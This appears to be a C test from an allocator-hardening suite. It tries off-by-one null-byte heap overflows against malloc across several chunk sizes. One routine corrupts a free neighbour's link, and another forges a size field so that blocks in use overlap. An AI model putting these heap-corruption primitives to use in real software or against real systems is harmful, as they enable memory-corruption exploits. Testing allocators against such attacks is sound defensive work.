/* A string's end is written one byte past its block. Won: two blocks in use overlap. */
#include "attack.h"

static const size_t sizes[] = {8, 24, 40, 120, 248, 504, 1016, 1272};

/* The neighbour is free: the byte hits its link. */
static void into_a_free_one(word size)
{
    char *p[16];

    for (unsigned i = 0; i < 16; i++)
        p[i] = malloc(size);
    for (unsigned i = 1; i < 16; i += 2)
        free(p[i]);
    for (unsigned i = 0; i < 16; i += 2) {
        hold(p[i], size);
        p[i][malloc_usable_size(p[i])] = 0;
    }
    go_on(size, 64);
}

/* The neighbour is in use: what stands between them says how large it is. */
static void into_a_used_one(word size)
{
    char *a = malloc(size), *b = malloc(0x4f8), *c = malloc(0x4f8), *d = malloc(100);

    (void)d;
    hold(c, 0x4f8);
    *(word *)(a + malloc_usable_size(a) - 8) = size + 8;
    a[malloc_usable_size(a)] = 0;
    free(b);
    go_on(0x4f8, 2);
    go_on(0x4f8 + size, 8);
}

int main(void)
{
    for (unsigned i = 0; i < sizeof(sizes) / sizeof(sizes[0]); i++) {
        try_out(into_a_free_one, sizes[i]);
        try_out(into_a_used_one, sizes[i]);
    }
    return HELD;
}
